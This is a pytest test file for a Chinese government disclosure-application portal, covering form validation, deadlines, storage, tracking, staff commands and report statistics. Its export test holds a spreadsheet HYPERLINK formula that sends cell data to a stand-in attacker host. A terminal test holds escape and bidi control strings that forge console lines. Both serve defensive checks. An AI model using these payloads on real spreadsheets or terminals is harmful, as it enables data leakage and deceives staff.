"""Online disclosure applications (依申请公开): the form and its validation, deadlines, storage,
tracking, staff commands and table 3 computed from the records."""

import csv
import datetime
import io
import logging
import threading
import unicodedata

import pytest
from click.testing import CliRunner
from conftest import audit_page
from sqlalchemy import update
from stdnum.cn import ric, uscc
from support import fresh_database

from portal import applications, db, wiring
from portal.applications import Application, ApplicationStore
from portal.cli import main
from portal.reports import check_carry_over, parse_report, validate_report

SITE = "https://portal.example.gov.cn"
SAME_SITE = {"Origin": SITE}
# The bodies applications may be made to on the fixture site: it has no organisation files, so
# it is one body, DEFAULT_ORGANISATION's.
BODIES = ("lingwu-kjj",)


def make_ric(region: str = "110101", birth: str = "19900307", sequence: str = "123") -> str:
    """A made-up 居民身份证 number with a correct check digit."""
    body = region + birth + sequence
    return body + ric.calc_check_digit(body + "0")


def make_uscc(body: str = "91640181MA76B2C3D") -> str:
    """A made-up 统一社会信用代码 with a correct check digit."""
    return body + uscc.calc_check_digit(body)


def wrong_check_digit(number: str) -> str:
    """The same number with a check digit that cannot be right."""
    last = number[-1]
    for candidate in "0123456789":
        if candidate != last:
            return number[:-1] + candidate
    raise AssertionError


PERSON_ID = make_ric()
ORG_CODE = make_uscc()


def person_form(**changes) -> dict:
    """A valid application by a citizen; changes override fields."""
    form = {
        "applicant_kind": "person",
        "name": "张三",
        "id_type": "ric",
        "id_number": PERSON_ID,
        "phone": "138 0000 1234",
        "email": "",
        "address": "",
        "description": "2024年科技项目资金分配结果",
        "title": "",
        "doc_number": "",
        "index_number": "",
        "form": "electronic",
        "delivery": "collect",
    }
    form.update(changes)
    return form


def organisation_form(**changes) -> dict:
    """A valid application by a research institute."""
    form = person_form(
        applicant_kind="research", name="某某研究所", id_type="", id_number="", uscc=ORG_CODE
    )
    form.update(changes)
    return form


@pytest.fixture
def database(app):
    """The app's database (DATABASE_URL) at the code's schema, as `portal db upgrade` leaves
    it; returns its URL."""
    url = app.config["DATABASE_URL"]
    fresh_database(url)
    yield url
    wiring.db.engine(app).dispose()


@pytest.fixture
def store(database) -> ApplicationStore:
    """The store over the app's database, as a staff command opens it."""
    engine = db.make_engine(database)
    yield ApplicationStore(engine)
    engine.dispose()


def submit(client, form: dict, headers=SAME_SITE, address: str = "192.0.2.1"):
    return client.post("/apply/", data=form, headers=headers, environ_base={"REMOTE_ADDR": address})


# --- The form ---------------------------------------------------------------------------------


def test_form_page_is_accessible_and_hides_the_honeypot_from_people(page, database):
    soup = page("/apply/")
    assert soup.h1.get_text() == "政府信息公开申请"
    form = soup.find("form", action="/apply/")
    assert form["method"] == "post"
    honeypot = form.find("input", attrs={"name": "website"})
    assert honeypot["tabindex"] == "-1"
    assert honeypot["autocomplete"] == "off"
    assert honeypot.find_parent("div").has_attr("hidden")
    kinds = [radio["value"] for radio in form.find_all("input", attrs={"name": "applicant_kind"})]
    assert kinds == ["person", "business", "research", "nonprofit", "legal", "other"]
    assert soup.find("div", role="alert") is None


def test_a_valid_application_is_stored_and_its_code_and_deadline_shown_once(client, store):
    response = submit(client, person_form())
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    soup = audit_page(response.get_data(as_text=True))
    assert soup.h1.get_text() == "申请已提交"
    shown = soup.find(class_="tracking-code").get_text()
    assert len(shown) == 14 and shown.count("-") == 2
    [stored] = store.all()
    assert applications.format_code(stored.code) == shown
    assert set(stored.code) <= set(applications.CODE_ALPHABET)
    assert stored.id_number == PERSON_ID
    assert stored.due in soup.get_text()


def test_invalid_fields_get_an_error_summary_linking_to_each_field(client, store):
    response = submit(client, person_form(id_number=wrong_check_digit(PERSON_ID), phone=""))
    assert response.status_code == 400
    assert response.headers["Cache-Control"] == "no-store"
    soup = audit_page(response.get_data(as_text=True))
    summary = soup.find("div", role="alert")
    assert summary.find("h2") is not None
    links = [a["href"] for a in summary.find_all("a")]
    assert links == ["#field-id_number", "#field-phone"]
    field = soup.find(id="field-id_number")
    assert field["aria-invalid"] == "true"
    assert "field-id_number-error" in field["aria-describedby"].split()
    assert "校验位" in soup.find(id="field-id_number-error").get_text()
    assert field["value"] == wrong_check_digit(PERSON_ID)  # kept for correcting
    assert store.all() == []


def test_a_missing_radio_choice_links_to_its_first_option(client, database):
    response = submit(client, person_form(applicant_kind=""))
    soup = audit_page(response.get_data(as_text=True))
    assert soup.find("div", role="alert").find("a")["href"] == "#field-applicant_kind"
    assert soup.find(id="field-applicant_kind")["value"] == "person"


@pytest.mark.parametrize(
    ("form", "field"),
    [
        (person_form(applicant_kind="citizen"), "applicant_kind"),
        (person_form(name="  "), "name"),
        (person_form(name="名" * 101), "name"),
        (person_form(id_type=""), "id_type"),
        (person_form(id_number=""), "id_number"),
        (person_form(id_number=wrong_check_digit(PERSON_ID)), "id_number"),
        (person_form(id_number=PERSON_ID[:-1]), "id_number"),
        (person_form(id_number=make_ric(birth="19901345")), "id_number"),
        (person_form(id_type="passport", id_number="E" * 41), "id_number"),
        (organisation_form(uscc=""), "uscc"),
        (organisation_form(uscc=wrong_check_digit(ORG_CODE)), "uscc"),
        (organisation_form(uscc=ORG_CODE[:-2]), "uscc"),
        (person_form(phone=""), "phone"),
        (person_form(phone="call me"), "phone"),
        (person_form(phone="12345"), "phone"),
        (person_form(email="not-an-address"), "email"),
        (person_form(delivery="email"), "email"),
        (person_form(delivery="post"), "address"),
        (person_form(address="地" * 301), "address"),
        (person_form(description=""), "description"),
        (person_form(description="述" * 2001), "description"),
        (person_form(doc_number="号" * 101), "doc_number"),
        (person_form(form="fax"), "form"),
        (person_form(delivery="pigeon"), "delivery"),
    ],
)
def test_each_field_is_validated(form, field):
    _cleaned, errors = applications.validate(form, BODIES)
    assert list(errors) == [field]


@pytest.mark.parametrize(
    "form",
    [
        person_form(),
        person_form(id_number=PERSON_ID[:-1] + PERSON_ID[-1].lower()),
        person_form(id_number=make_ric(sequence="001")),
        person_form(id_type="passport", id_number="E12345678"),
        person_form(phone="+86 951-1234567", email="a@example.com", delivery="email"),
        person_form(address="灵武市某路1号", delivery="post", form="paper"),
        organisation_form(),
        organisation_form(applicant_kind="business", uscc=ORG_CODE.lower()),
        organisation_form(applicant_kind="other", uscc=make_uscc("12640181000000000")),
    ],
)
def test_valid_applications_have_no_errors(form):
    cleaned, errors = applications.validate(form, BODIES)
    assert errors == {}
    assert cleaned["id_number"] in (
        PERSON_ID,
        "E12345678",
        ORG_CODE,
        make_ric(sequence="001"),
        make_uscc("12640181000000000"),
    )


def test_an_organisation_is_not_asked_for_a_personal_id():
    cleaned, errors = applications.validate(organisation_form(id_number="junk"), BODIES)
    assert errors == {}
    assert cleaned["id_type"] == "uscc" and cleaned["id_number"] == ORG_CODE


def test_a_site_of_one_body_states_it_instead_of_asking(page, database):
    soup = page("/apply/")
    form = soup.find("form", action="/apply/")
    assert (
        form.find(class_="organisation-fixed").get_text() == "受理机关：政府信息公开平台（演示站）"
    )
    sent = form.find("input", attrs={"name": "organisation"})
    assert (sent["type"], sent["value"]) == ("hidden", "lingwu-kjj")
    assert form.find("select", attrs={"name": "organisation"}) is None
    assert [script["src"].split(".")[0] for script in soup.find_all("script")] == [
        "/static/js/site"
    ]


@pytest.mark.parametrize("organisation", [None, "lingwu-kjj"])
def test_on_a_site_of_one_body_every_application_goes_to_it(client, store, organisation):
    form = person_form() if organisation is None else person_form(organisation=organisation)
    response = submit(client, form)
    assert response.status_code == 200
    soup = audit_page(response.get_data(as_text=True))
    terms = [dt.get_text() for dt in soup.find_all("dt")]
    assert soup.find_all("dd")[terms.index("受理机关")].get_text() == "政府信息公开平台（演示站）"
    assert [app.organisation for app in store.all()] == ["lingwu-kjj"]


def test_a_body_that_is_not_the_sites_one_is_a_field_error(client, store):
    response = submit(client, person_form(organisation="elsewhere"))
    assert response.status_code == 400
    soup = audit_page(response.get_data(as_text=True))
    assert soup.find("div", role="alert").find("a")["href"] == "#field-organisation"
    select = soup.find("select", id="field-organisation")
    assert [option["value"] for option in select.find_all("option")] == ["", "lingwu-kjj"]
    assert store.all() == []


def test_the_honeypot_filled_in_stores_nothing(client, store):
    response = submit(client, person_form(website="http://spam.example"))
    assert response.status_code == 400
    audit_page(response.get_data(as_text=True))
    assert store.all() == []


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Referer": "https://evil.example/form"},
        {"Origin": "null"},
        {},
    ],
)
def test_a_post_from_another_site_is_refused(client, store, headers):
    response = submit(client, person_form(), headers=headers)
    assert response.status_code == 400
    assert "本站" in audit_page(response.get_data(as_text=True)).get_text()
    assert store.all() == []


def test_a_post_with_only_a_same_site_referer_is_accepted(client, store):
    response = submit(client, person_form(), headers={"Referer": f"{SITE}/apply/"})
    assert response.status_code == 200
    assert len(store.all()) == 1


def test_submissions_are_rate_limited_per_address(client, store):
    for _ in range(5):
        assert submit(client, person_form()).status_code == 200
    response = submit(client, person_form())
    assert response.status_code == 429
    assert "一小时" in audit_page(response.get_data(as_text=True)).get_text()
    assert submit(client, person_form(), address="198.51.100.7").status_code == 200
    assert len(store.all()) == 6


def test_the_id_number_is_never_logged(client, database, caplog):
    caplog.set_level(logging.DEBUG)
    submit(client, person_form())
    assert caplog.records
    assert PERSON_ID not in caplog.text


# --- Deadlines --------------------------------------------------------------------------------


def test_the_deadline_counts_working_days_across_the_national_day_week():
    # 2024-09-28 (Sat) and 10-12 (Sat) are make-up working days; 10-01 to 10-07 are holidays.
    assert applications.reply_due(datetime.date(2024, 9, 27)) == (datetime.date(2024, 10, 30), True)


def test_the_deadline_in_a_year_the_calendar_does_not_know_says_so(client, database, monkeypatch):
    monkeypatch.setattr(applications, "today", lambda: datetime.date(2099, 3, 2))
    response = submit(client, person_form())
    soup = audit_page(response.get_data(as_text=True))
    assert "2099-03-30" in soup.get_text()
    assert "尚未公布该年度的节假日安排" in soup.find(class_="notice").get_text()


def test_an_extension_adds_20_working_days_once(store):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    extended = store.update(app.code, extend=True)
    assert extended.due == "2024-11-27" and extended.status == "extended"
    with pytest.raises(applications.ApplicationError, match="already extended"):
        store.update(app.code, extend=True)


def test_a_correction_stops_the_clock_and_restarts_it(store):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 2))
    waiting = store.update(app.code, correction_requested=datetime.date(2024, 9, 5))
    assert waiting.status == "correction"
    assert store.due_within(365, datetime.date(2024, 9, 6)) == []
    corrected = store.update(app.code, corrected=datetime.date(2024, 9, 27))
    assert corrected.due == "2024-10-30" and corrected.status == "received"


# --- Storage ----------------------------------------------------------------------------------


def test_concurrent_submissions_are_all_stored(store, database):
    count = 8
    barrier = threading.Barrier(count)
    codes, failures = [], []

    def worker(index: int):
        engine = db.make_engine(database)  # as each worker process has its own
        own = ApplicationStore(engine)
        barrier.wait()
        try:
            codes.append(
                own.submit(
                    applications.validate(person_form(name=f"申请人{index}"), BODIES)[0],
                    datetime.date(2024, 5, 6),
                ).code
            )
        except Exception as error:  # pragma: no cover - reported below
            failures.append(error)
        finally:
            engine.dispose()

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failures == []
    assert sorted(app.code for app in store.all()) == sorted(codes)
    assert len(set(codes)) == count


def at_once(database: str, count: int, call) -> list:
    """Run call(store, index) from `count` threads released together, each with its own engine
    (as worker processes and nodes have); what each returned or raised."""
    barrier = threading.Barrier(count)
    results: list = []

    def one(index: int):
        engine = db.make_engine(database)
        try:
            barrier.wait()
            results.append(call(ApplicationStore(engine), index))
        except Exception as error:
            results.append(error)
        finally:
            engine.dispose()

    threads = [threading.Thread(target=one, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


def test_the_limits_hold_when_attempts_arrive_at_once(store, database):
    # On PostgreSQL (PORTAL_TEST_DATABASE_URL), READ COMMITTED alone would let several see the
    # last free attempt; the window's lock makes them count one after the other.
    from limits import RateLimitItemPerHour
    from limits.strategies import MovingWindowRateLimiter

    def take(own: ApplicationStore, _index: int) -> bool:
        storage = db.SQLWindowStorage(engine=lambda: own.engine)
        return MovingWindowRateLimiter(storage).hit(RateLimitItemPerHour(3), "submit", "c1")

    assert sorted(at_once(database, 10, take)) == [False] * 7 + [True] * 3
    storage = db.SQLWindowStorage(engine=lambda: store.engine)
    window = MovingWindowRateLimiter(storage)
    assert not window.test(RateLimitItemPerHour(3), "submit", "c1")
    assert window.test(RateLimitItemPerHour(3), "submit", "another client")
    assert window.get_window_stats(RateLimitItemPerHour(3), "submit", "c1").remaining == 0


def test_a_request_waits_briefly_for_a_lock_and_says_the_store_is_unavailable(store, database):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 5, 6))
    holder = db.make_engine(database)
    late = threading.Event()
    with holder.connect() as connection:
        transaction = connection.begin()
        # Another transaction changes the application and keeps its lock (the database's on
        # SQLite, the row's on PostgreSQL) until the request has its answer. A store that
        # waited as long as a staff command may answers after `late` is set.
        connection.execute(
            update(db.ApplicationRecord).where(db.ApplicationRecord.code == app.code),
            {"title": "另一事务"},
        )
        timer = threading.Timer(20, late.set)
        timer.start()
        request = db.make_engine(database, lock_wait=db.REQUEST_LOCK_WAIT, must_exist=True)
        with pytest.raises(applications.StoreUnavailable):
            ApplicationStore(request).update(app.code, extend=True)
        assert not late.is_set(), "the request waited for the other transaction"
        timer.cancel()
        transaction.commit()
    holder.dispose()
    assert ApplicationStore(request).update(app.code, extend=True).extended == 1
    request.dispose()


def test_a_code_already_taken_is_drawn_again(store, database):
    first = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 5, 6))
    draws = iter([first.code, first.code, "ABCDEFGHJKMN"])
    again = ApplicationStore(store.engine, draw_code=lambda: next(draws))
    second = again.submit(
        applications.validate(person_form(name="李四"), BODIES)[0], datetime.date(2024, 5, 7)
    )
    assert second.code == "ABCDEFGHJKMN"
    assert {app.code: app.name for app in store.all()} == {first.code: "张三", second.code: "李四"}


def test_purge_erases_personal_fields_and_keeps_the_statistics(store):
    old = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2020, 3, 2))
    store.update(old.code, outcome="granted", replied=datetime.date(2020, 3, 20))
    recent = store.submit(
        applications.validate(person_form(), BODIES)[0], datetime.date(2024, 3, 4)
    )
    store.update(recent.code, outcome="granted", replied=datetime.date(2024, 3, 20))
    open_one = store.submit(
        applications.validate(person_form(), BODIES)[0], datetime.date(2019, 3, 4)
    )
    assert store.purge(1095, datetime.date(2024, 6, 1)) == 1
    erased = store.get(old.code)
    assert all(getattr(erased, name) is None for name in applications.PERSONAL)
    assert (erased.applicant_kind, erased.outcome, erased.received, erased.replied) == (
        "person",
        "granted",
        "2020-03-02",
        "2020-03-20",
    )
    assert store.get(recent.code).id_number == PERSON_ID
    assert store.get(open_one.code).name == "张三"


def test_ids_are_masked():
    assert applications.mask("110101199003071234") == "1101**********1234"
    assert applications.mask("E1234567") == "******67"


# --- Tracking ---------------------------------------------------------------------------------


def track(client, code: str, last4: str, address: str = "192.0.2.9", headers=SAME_SITE):
    return client.post(
        "/apply/track",
        data={"code": code, "phone_last4": last4},
        headers=headers,
        environ_base={"REMOTE_ADDR": address},
    )


def test_tracking_form_page_is_accessible(page, database):
    soup = page("/apply/track")
    assert soup.find("form", action="/apply/track")["method"] == "post"
    assert soup.find(id="field-phone_last4") is not None


def test_tracking_shows_the_status_with_the_right_code_and_phone(client, store):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    store.update(app.code, outcome="withheld_third_party", replied=datetime.date(2024, 10, 20))
    response = track(client, applications.format_code(app.code).lower(), "1234")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    text = audit_page(response.get_data(as_text=True)).get_text()
    assert "已答复" in text and "保护第三方合法权益" in text and "2024-10-20" in text
    assert "张三" not in text and PERSON_ID not in text


def test_tracking_with_a_wrong_second_factor_shows_nothing(client, store):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    other = store.submit(
        applications.validate(person_form(phone="13900004321"), BODIES)[0],
        datetime.date(2024, 9, 27),
    )
    response = track(client, app.code, "4321")
    assert response.status_code == 400
    soup = audit_page(response.get_data(as_text=True))
    assert soup.find("div", role="alert").find("a")["href"] == "#field-code"
    assert "2024-10-30" not in soup.get_text()
    assert other.code not in soup.get_text()


@pytest.mark.parametrize("last4", ["²³⁴⁵", "١٢٣٤", "①②③④", "12 4", "12345", ""])
def test_only_four_ascii_digits_can_match_a_phone(store, last4):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    assert store.lookup(app.code, last4) is None
    assert store.lookup(app.code, "1234") == app


def test_tracking_from_another_site_is_refused(client, store):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    assert (
        track(client, app.code, "1234", headers={"Origin": "https://evil.example"}).status_code
        == 400
    )


def test_repeated_wrong_guesses_are_throttled(client, store):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    for _ in range(10):
        assert track(client, "ABCD-EFGH-JKMN", "1234").status_code == 400
    response = track(client, app.code, "1234")
    assert response.status_code == 429
    assert "查询失败次数过多" in audit_page(response.get_data(as_text=True)).get_text()
    assert track(client, app.code, "1234", address="198.51.100.7").status_code == 200


# --- Staff commands ---------------------------------------------------------------------------


def cli(database: str, *args):
    """Run `portal applications ARGS` on the database at this URL; fails unless it succeeds."""
    result = CliRunner().invoke(
        main, ["applications", *args], env={"PORTAL_DATABASE_URL": database}
    )
    assert result.exit_code == 0, result.output
    return result


def test_staff_list_masks_id_numbers_and_filters_by_due_date(store, database, monkeypatch):
    monkeypatch.setattr(applications, "today", lambda: datetime.date(2024, 10, 25))
    soon = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    later = store.submit(
        applications.validate(organisation_form(), BODIES)[0], datetime.date(2024, 10, 21)
    )
    listing = cli(database, "list").output
    assert PERSON_ID not in listing and ORG_CODE not in listing
    assert applications.mask(PERSON_ID) in listing
    due = cli(database, "list", "--due", "7").output
    assert applications.format_code(soon.code) in due
    assert applications.format_code(later.code) not in due
    shown = cli(database, "show", soon.code).output
    assert PERSON_ID not in shown and "due: 2024-10-30" in shown


def test_staff_update_records_the_outcome(store, database):
    app = store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    cli(database, "update", app.code, "--outcome", "partly_granted", "--replied", "2024-10-15")
    assert (store.get(app.code).outcome, store.get(app.code).replied) == (
        "partly_granted",
        "2024-10-15",
    )
    result = CliRunner().invoke(
        main,
        ["applications", "update", app.code, "--outcome", "withheld_9"],
        env={"PORTAL_DATABASE_URL": database},
    )
    assert result.exit_code != 0


def test_csv_export_has_no_id_numbers(store, database, tmp_path):
    store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 9, 27))
    store.submit(applications.validate(organisation_form(), BODIES)[0], datetime.date(2024, 9, 27))
    target = tmp_path / "applications.csv"
    cli(database, "export", str(target))
    text = target.read_text(encoding="utf-8-sig")
    assert PERSON_ID not in text and ORG_CODE not in text
    assert PERSON_ID[-4:] + "\n" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2 and "id_number" not in rows[0] and rows[0]["name"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"点击查看")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_csv_export_neutralises_formulas_from_applicants(client, store, database, tmp_path):
    # Through the form, as a visitor would send them (the form trims leading tabs and CRs) ...
    for formula in FORMULAS:
        assert (
            submit(
                client,
                person_form(name=formula, description=formula, title=formula),
                address=f"198.51.100.{len(store.all())}",
            ).status_code
            == 200
        )
    # ... and stored as they are, as a record that bypassed the form would be.
    for formula in FORMULAS:
        cleaned = applications.validate(person_form(), BODIES)[0] | {
            "name": formula,
            "description": formula,
        }
        store.submit(cleaned, datetime.date(2024, 9, 27))
    target = tmp_path / "applications.csv"
    cli(database, "export", str(target))
    with target.open(encoding="utf-8-sig", newline="") as exported:
        rows = list(csv.reader(exported))
    assert len(rows) == 1 + 2 * len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), row
    names = sorted(row[rows[0].index("name")] for row in rows[1:])
    assert names.count("'=1") == 2  # "\t=1" and "\r=1" through the form
    assert "'\t=1" in names and "'\r=1" in names and "'-2+3" in names
    assert "'" + FORMULAS[0] in names


# Characters that rewrite what a terminal shows: line breaks of every kind, escape sequences,
# and bidi controls that reorder what follows them.
FORGERS = [
    "\n",
    "\r",
    "\x85",
    "\u2028",
    "\u2029",
    "\x9b",
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
    "\u200b",
    "\ufeff",
]
FAKE_LINE = "\nABCD-EFGH-JKMN  2024-01-01  due 2024-02-01  answered    person     "


def visible_only(line: str) -> bool:
    return not any(unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp") for char in line)


def test_staff_commands_show_control_and_bidi_characters_as_escapes(client, store, database):
    name = "张三\u202e4321 \u2066" + FAKE_LINE + "王五"
    description = "需要" + "".join(FORGERS) + "\x1b[2J" + FAKE_LINE
    assert (
        submit(
            client,
            person_form(
                name=name,
                description=description,
                id_type="passport",
                id_number="E1\u202e2345678\u2028",
            ),
        ).status_code
        == 200
    )
    cleaned = applications.validate(person_form(), BODIES)[0] | {
        "name": "\x1b]0;owned\x07\x1b[2J李四\r赵六",
        "title": "\u202e\n",
    }
    store.submit(cleaned, datetime.date(2024, 9, 27))
    listing = cli(database, "list").stdout.splitlines()
    assert len(listing) == 2
    for line in listing:
        assert visible_only(line), ascii(line)
        assert line[0] in applications.CODE_ALPHABET
    assert any("张三\\u202e4321 \\u2066\\nABCD-EFGH-JKMN" in line for line in listing)
    assert any("\\x1b]0;owned\\x07\\x1b[2J李四\\r赵六" in line for line in listing)
    for app in store.all():
        shown = cli(database, "show", app.code).stdout.splitlines()
        assert [line.split(":", 1)[0] for line in shown] == [*applications.COLUMNS, "status"]
        assert all(visible_only(line) for line in shown), [ascii(line) for line in shown]
    first = next(app for app in store.all() if app.name == name)
    shown = cli(database, "show", first.code).stdout
    assert "description: 需要\\n\\r\\x85\\u2028\\u2029\\x9b\\u202e\\u202d\\u2066" in shown
    updated = cli(database, "update", first.code, "--extend").stdout.splitlines()
    assert len(updated) == 1 and visible_only(updated[0])


def test_staff_commands_never_create_a_missing_database(tmp_path, site):
    for missing in (tmp_path / "moved" / "portal.sqlite3", tmp_path / "portal.sqlite3"):
        for args in (
            ["applications", "list"],
            ["applications", "update", "ABCD-EFGH-JKMN", "--extend"],
            ["report-stats", "2024", "--content", str(site)],
        ):
            result = CliRunner().invoke(
                main, args, env={"PORTAL_DATABASE_URL": f"sqlite:///{missing}"}
            )
            assert result.exit_code == 1
            assert "cannot use the applications database" in result.stderr
            assert "run `portal db upgrade`" in result.stderr
            assert "Traceback" not in result.output
        assert not missing.exists()
    assert not (tmp_path / "moved").exists()


def test_the_old_database_option_says_where_applications_are_now(database, site, tmp_path):
    old = tmp_path / "applications.sqlite3"
    for args in (
        ["applications", "--db", str(old), "list"],
        ["report-stats", "2024", "--content", str(site), "--db", str(old)],
    ):
        result = CliRunner().invoke(main, args, env={"PORTAL_DATABASE_URL": database})
        assert result.exit_code == 2
        assert "is no longer used" in result.stderr
        assert "`portal applications import-sqlite FILE`" in result.stderr
    assert not old.exists()


# --- Table 3 ----------------------------------------------------------------------------------


def record(code, received, kind, outcome=None, replied=None) -> Application:
    return Application(
        code=code,
        received=received,
        organisation="lingwu-kjj",
        applicant_kind=kind,
        name=None,
        id_type=None,
        id_number=None,
        phone=None,
        email=None,
        address=None,
        description=None,
        title=None,
        doc_number=None,
        index_number=None,
        form="paper",
        delivery="post",
        due="",
        calendar_known=1,
        outcome=outcome,
        replied=replied,
    )


FIXTURE_RECORDS = [
    record("A1", "2023-05-01", "person", "granted", "2023-05-20"),  # answered last year
    record("A2", "2023-12-20", "person", "granted", "2024-01-10"),  # carried over
    record("A3", "2023-12-28", "business", "unavailable_not_held", "2024-01-15"),
    record("A4", "2023-12-29", "legal"),  # carried over, open
    record("A5", "2024-02-01", "person", "granted", "2024-02-20"),
    record("A6", "2024-03-01", "person", "partly_granted", "2024-03-25"),
    record("A7", "2024-04-01", "research", "withheld_third_party", "2024-04-20"),
    record("A8", "2024-06-01", "nonprofit", "other_no_correction", "2024-07-20"),
    record("A9", "2024-12-20", "person", "granted", "2025-01-08"),  # carried forward
    record("B1", "2024-12-30", "other"),  # carried forward
    record("B2", "2025-01-05", "person"),  # next year
]


def test_table3_from_records_matches_the_hand_computed_table():
    values = applications.table3_values(FIXTURE_RECORDS, 2024)
    assert values == {
        "table3.new.person": 3,
        "table3.new.research": 1,
        "table3.new.nonprofit": 1,
        "table3.new.other": 1,
        "table3.new.total": 6,
        "table3.carried_over.person": 1,
        "table3.carried_over.business": 1,
        "table3.carried_over.legal": 1,
        "table3.carried_over.total": 3,
        "table3.granted.person": 2,
        "table3.granted.total": 2,
        "table3.partly_granted.person": 1,
        "table3.partly_granted.total": 1,
        "table3.unavailable_not_held.business": 1,
        "table3.unavailable_not_held.total": 1,
        "table3.withheld_third_party.research": 1,
        "table3.withheld_third_party.total": 1,
        "table3.other_no_correction.nonprofit": 1,
        "table3.other_no_correction.total": 1,
        "table3.total.person": 3,
        "table3.total.business": 1,
        "table3.total.research": 1,
        "table3.total.nonprofit": 1,
        "table3.total.total": 6,
        "table3.carried_forward.person": 1,
        "table3.carried_forward.legal": 1,
        "table3.carried_forward.other": 1,
        "table3.carried_forward.total": 3,
    }
    reports = [
        applications.table3_report(FIXTURE_RECORDS, year, "灵武市科学技术局")
        for year in (2023, 2024, 2025)
    ]
    for report in reports:
        # Table 3 keeps every rule; tables 2 and 4 are left unset for staff (the records say
        # nothing of them), so R7 names each of their 25 cells as missing, never a zero.
        problems = validate_report(report)
        assert [p for p in problems if p.table == 3] == []
        assert [(p.rule, p.table) for p in problems] == [("R7", 2)] * 10 + [("R7", 4)] * 15
    assert check_carry_over(reports[0], reports[1]) == []
    assert check_carry_over(reports[1], reports[2]) == []


def test_report_stats_writes_the_annual_report_data_format(store, database, tmp_path, site):
    app = store.submit(
        applications.validate(organisation_form(), BODIES)[0], datetime.date(2024, 9, 27)
    )
    store.update(app.code, outcome="granted", replied=datetime.date(2024, 10, 8))
    store.submit(applications.validate(person_form(), BODIES)[0], datetime.date(2024, 12, 30))
    target = tmp_path / "stats.report.yml"
    result = CliRunner().invoke(
        main,
        [
            "report-stats",
            "2024",
            # A site without organisation files is one body, named SITE_NAME: the report
            # names the bureau itself.
            "--content",
            str(site),
            "--name",
            "灵武市科学技术局",
            "--out",
            str(target),
        ],
        env={"PORTAL_DATABASE_URL": database},
    )
    assert result.exit_code == 0, result.output
    report = parse_report(target.read_text(encoding="utf-8"), target)
    assert (report.organisation, report.year) == ("灵武市科学技术局", 2024)
    assert report.value(3, "new", "total") == 2
    assert report.value(3, "granted", "research") == 1
    assert report.value(3, "carried_forward", "person") == 1
    # Tables 2 and 4 are not invented: left unset (null) for staff, not written as zeros.
    assert report.value(2, "rules", "issued") is None and report.value(4, "review", "total") is None
    assert "review:            {upheld: null," in target.read_text(encoding="utf-8")
    assert [p for p in validate_report(report) if p.table == 3] == []
